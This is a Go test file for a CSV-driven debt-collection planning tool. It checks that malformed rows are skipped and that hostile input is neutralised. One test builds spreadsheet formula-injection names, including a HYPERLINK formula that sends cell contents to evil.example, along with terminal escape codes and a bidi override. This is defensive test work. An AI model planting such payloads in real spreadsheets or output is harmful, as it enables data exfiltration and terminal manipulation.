package main

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/rickb777/date"
)

// TestRunMalformedRows feeds three good rows and four malformed ones: each
// malformed row is reported on stderr with its line number (counted in the
// file, comments and header included) and skipped; the good rows are all
// planned, one output row each under the header.
func TestRunMalformedRows(t *testing.T) {
	header := strings.Join(columns, ",")
	// The good rows: a Belgian consumer (no act yet), a Dutch enterprise
	// after a formal notice, a Belgian consumer with a served default
	// judgment and a known employer (enforcement ranked).
	good := func(id, country, kind, history, income string) string {
		f := map[string]string{
			"case_id": id, "country": country, "debtor_name": "Debtor " + id, "debtor_kind": kind,
			"invoice_number": "F-" + id, "invoice_date": "2024-11-04", "due_date": "2024-12-04",
			"principal": "1250.00", "accessories": "35.10", "history": history, "net_income": income,
			"employer_known": "true", "children": "2",
		}
		if kind == "enterprise" {
			f["debtor_register"] = "12345678"
		}
		vals := make([]string, len(columns))
		for i, c := range columns {
			vals[i] = f[c]
		}
		return strings.Join(vals, ",")
	}
	bad := func(g, col, val string) string {
		vals := strings.Split(g, ",")
		for i, c := range columns {
			if c == col {
				vals[i] = val
			}
		}
		return strings.Join(vals, ",")
	}
	g1 := good("A1", "BE", "consumer", "", "")
	g2 := good("A2", "NL", "enterprise", "formal-notice@2025-01-10:no-reaction", "")
	g3 := good("A3", "BE", "consumer", "reminder@2024-12-20;formal-notice@2025-01-20:no-reaction;summons@2025-02-20;default-judgment@2025-04-01;service@2025-04-25", "2000.00")
	in := strings.Join([]string{
		"# a comment line",                // line 1
		header,                            // line 2
		g1,                                // line 3
		bad(g1, "due_date", "2024-02-30"), // line 4: no such day
		g2,                                // line 5
		bad(g2, "country", "DE"),          // line 6: not a covered country
		"A9,BE,too few fields",            // line 7
		bad(g3, "history", "summons@2025-02-20:x"), // line 8: unknown outcome
		g3, // line 9
	}, "\n") + "\n"
	var out, errw bytes.Buffer
	st, err := run(strings.NewReader(in), &out, &errw, date.New(2025, 6, 30))
	if err != nil {
		t.Fatal(err)
	}
	if st.planned != 3 || st.skipped != 4 {
		t.Errorf("planned %d, skipped %d; want 3, 4\nstderr:\n%s", st.planned, st.skipped, errw.String())
	}
	for _, want := range []string{"line 4: skipped: due_date", "line 6: skipped: country", "line 7: skipped: 3 fields", "line 8: skipped: history"} {
		if !strings.Contains(errw.String(), want) {
			t.Errorf("stderr lacks %q:\n%s", want, errw.String())
		}
	}
	recs, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 4 || strings.Join(recs[0], ",") != strings.Join(outColumns, ",") {
		t.Fatalf("output: %d records, header %v", len(recs), recs[0])
	}
	for i, line := range []string{"3", "5", "9"} {
		if recs[i+1][0] != line {
			t.Errorf("row %d from line %s, want %s", i+1, recs[i+1][0], line)
		}
	}
	// The served title with a known income: enforcement is ranked, and the
	// best route for BE 2025, 2,000 euro with 2 children (156.60 a month,
	// 1,285.10 / 156.60 → 9 months; see procedure's tests) is the wage garnishment.
	last := recs[3]
	col := func(name string) string {
		for i, c := range outColumns {
			if c == name {
				return last[i]
			}
		}
		return ""
	}
	if col("enforcement") != "wage-garnishment" || col("enforcement_monthly") != "156.60" || col("enforcement_months_to_clear") != "9" {
		t.Errorf("enforcement %q %q %q; want wage-garnishment 156.60 9", col("enforcement"), col("enforcement_monthly"), col("enforcement_months_to_clear"))
	}
}

// TestRunSample plans the shipped sample: every row but the four malformed
// ones the generator inserted is planned.
func TestRunSample(t *testing.T) {
	var out, errw bytes.Buffer
	st, err := run(bytes.NewReader(sample), &out, &errw, sampleAsOf)
	if err != nil {
		t.Fatal(err)
	}
	if st.skipped != len(sampleMalformed) || st.planned < 300 {
		t.Errorf("planned %d, skipped %d; want ≥ 300 and %d\n%s", st.planned, st.skipped, len(sampleMalformed), errw.String())
	}
	if got := strings.Count(errw.String(), "\n"); got != len(sampleMalformed) {
		t.Errorf("%d error lines, want %d", got, len(sampleMalformed))
	}
	for _, m := range sampleMalformed {
		if !strings.Contains(errw.String(), m.why) {
			t.Errorf("stderr lacks %q:\n%s", m.why, errw.String())
		}
	}
	if n := strings.Count(out.String(), "\n"); n != st.planned+1 {
		t.Errorf("%d output lines, want %d", n, st.planned+1)
	}
}

// TestRunHeader: a file whose header cannot be used is refused as a whole,
// with an error wrapping errHeader that says what is wrong and, for the
// usual mistakes, what to do.
func TestRunHeader(t *testing.T) {
	all := strings.Join(columns, ",")
	for _, c := range []struct{ in, want string }{
		{"case_id,country\nA,BE\n", `header: line 1: missing columns "debtor_name", "debtor_kind", `},
		{"", "header: no header line (the file is empty or holds only comments)"},
		{"# only a comment\n\n", "header: no header line"},
		{"# c\n" + all + ",principal\n", `header: line 2: column "principal" appears twice (fields 10 and 29)`},
		{strings.ReplaceAll(all, ",", ";") + "\n", "(the header is one field holding semicolons: save the file comma-separated)"},
		{`"case_id,` + all + "\n", "header: line 1: malformed CSV: field 1: its opening quote is not closed on this line"},
	} {
		var out, errw bytes.Buffer
		_, err := run(strings.NewReader(c.in), &out, &errw, sampleAsOf)
		if !errors.Is(err, errHeader) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%.30q: err %v, want errHeader and %q", c.in, err, c.want)
		}
	}
}

// sampleGood returns the good rows of the shipped sample, which all plan
// (TestRunSample), in the order of columns: the generator marks each
// malformed row by an X after its case_id (generateSample).
func sampleGood(t testing.TB) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(sample))
	r.Comment = '#'
	recs, err := r.ReadAll()
	if err != nil || strings.Join(recs[0], ",") != strings.Join(columns, ",") {
		t.Fatalf("the sample does not read: %v", err)
	}
	var good [][]string
	for _, rec := range recs[1:] {
		if !strings.HasSuffix(rec[0], "X") {
			good = append(good, rec)
		}
	}
	if len(good) != 300 {
		t.Fatalf("%d good rows in the sample, want 300", len(good))
	}
	return good
}

// encode writes the rows as CSV lines (LF), quoting as encoding/csv does.
func encode(rows ...[]string) string {
	var b strings.Builder
	w := csv.NewWriter(&b)
	_ = w.WriteAll(rows)
	return b.String()
}

// with returns a copy of row with the named columns set.
func with(row []string, colVals ...string) []string {
	out := slices.Clone(row)
	for i := 0; i < len(colVals); i += 2 {
		out[slices.Index(columns, colVals[i])] = colVals[i+1]
	}
	return out
}

// TestRunStrayQuote is the case of the hardening issue: one stray quote
// used to swallow the rest of the file ("0 planned, 1 skipped"). Now it
// costs its own row: the row is reported by its line, and the 299 rows
// after it are planned.
func TestRunStrayQuote(t *testing.T) {
	good := sampleGood(t)
	header := strings.Join(columns, ",") + "\n"        // line 1
	first := strings.TrimSuffix(encode(good[0]), "\n") // C00001,NL,Inge El Amrani,…,  (its last field is empty)
	for _, c := range []struct{ line, why string }{
		// A quote that never closes, at the start of the row.
		{`"` + first, "field 1 (case_id): its opening quote is not closed on this line (a field cannot span lines)"},
		// A quote that never closes, in the last (empty) field.
		{first + `"`, "field 28 (insolvency_events): its opening quote is not closed on this line (a field cannot span lines)"},
		// ,"NL," Inge…: a quoted field closes in the middle of the next one.
		{strings.Replace(first, ",", `,"`, 2), "field 2 (country): text after its closing quote (write a quote inside a quoted field twice)"},
		// A quote in the middle of a name.
		{strings.Replace(first, "Inge", `In"ge`, 1), `field 3 (debtor_name): a quote inside an unquoted field (quote the whole field and write the quote twice: "a""b")`},
	} {
		in := header + c.line + "\n" + encode(good[1:]...) // line 2, then lines 3-301
		var errw bytes.Buffer
		st, err := run(strings.NewReader(in), io.Discard, &errw, sampleAsOf)
		if err != nil {
			t.Fatal(err)
		}
		if st.planned != 299 || st.skipped != 1 {
			t.Errorf("%s: planned %d, skipped %d; want 299, 1", c.why, st.planned, st.skipped)
		}
		if want := "line 2: skipped: malformed CSV: " + c.why + "\n"; errw.String() != want {
			t.Errorf("stderr %q, want %q", errw.String(), want)
		}
	}
}

// TestRunHostileInput plans rows whose text would run as a formula in a
// spreadsheet, and rows whose bad values hold terminal escape codes, in an
// Excel-style file (UTF-8 BOM, CRLF). The formula cells come out with a
// leading quote and the amounts untouched; the messages on stderr carry the
// escapes as text.
func TestRunHostileInput(t *testing.T) {
	good := sampleGood(t)
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+31 6 1234", "-Jan-", "@SUM(1+1)", "Jan \x1b[2J Peeters"}
	rows := [][]string{columns}
	for i, n := range names {
		rows = append(rows, with(good[i], "debtor_name", n, "case_id", "="+good[i][0]))
	}
	rows = append(rows,
		with(good[10], "country", "\x1b]0;pwned\x07\u009b31mBE"), // line 7: OSC, BEL and a C1 CSI in a value quoted as it is
		with(good[11], "due_date", "\u202e2025-01-01\xff"),       // line 8: a bidi override and a byte that is not UTF-8
	)
	in := utf8BOM + strings.ReplaceAll(encode(rows...), "\n", "\r\n")
	var out, errw bytes.Buffer
	st, err := run(strings.NewReader(in), &out, &errw, sampleAsOf)
	if err != nil {
		t.Fatal(err)
	}
	if st.planned != len(names) || st.skipped != 2 {
		t.Errorf("planned %d, skipped %d; want %d, 2\n%s", st.planned, st.skipped, len(names), errw.String())
	}
	recs, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(recs) != len(names)+1 {
		t.Fatalf("output: %d records, %v", len(recs), err)
	}
	col := func(rec []string, name string) string { return rec[slices.Index(outColumns, name)] }
	for i, rec := range recs[1:] {
		wantName := "'" + names[i]
		if !strings.ContainsAny(names[i][:1], "=+-@") {
			wantName = names[i] // starts with a letter: as it is (the ESC is no formula)
		}
		if col(rec, "debtor") != wantName || col(rec, "case_id") != "'="+good[i][0] {
			t.Errorf("row %d: debtor %q case_id %q; want %q and '=%s", i+1, col(rec, "debtor"), col(rec, "case_id"), wantName, good[i][0])
		}
		if o := col(rec, "outstanding"); o == "" || o[0] == '\'' {
			t.Errorf("row %d: outstanding %q, want a number", i+1, o)
		}
		if col(rec, "line") != strconv.Itoa(i+2) {
			t.Errorf("row %d: line %q, want %d", i+1, col(rec, "line"), i+2)
		}
	}
	msg := errw.String()
	for _, want := range []string{
		`line 7: skipped: country: invalid input: Country = \x1b]0;pwned\a\u009b31mBE`,
		`line 8: skipped: due_date: want a calendar day YYYY-MM-DD, got "\u202e2025-01-01\xff"`,
	} {
		if !strings.Contains(msg, want) {
			t.Errorf("stderr lacks %q:\n%s", want, msg)
		}
	}
	if i := strings.IndexFunc(msg, func(r rune) bool { return r != '\n' && !strconv.IsPrint(r) }); i >= 0 {
		t.Errorf("stderr holds an unprintable rune at %d: %q", i, msg)
	}
}
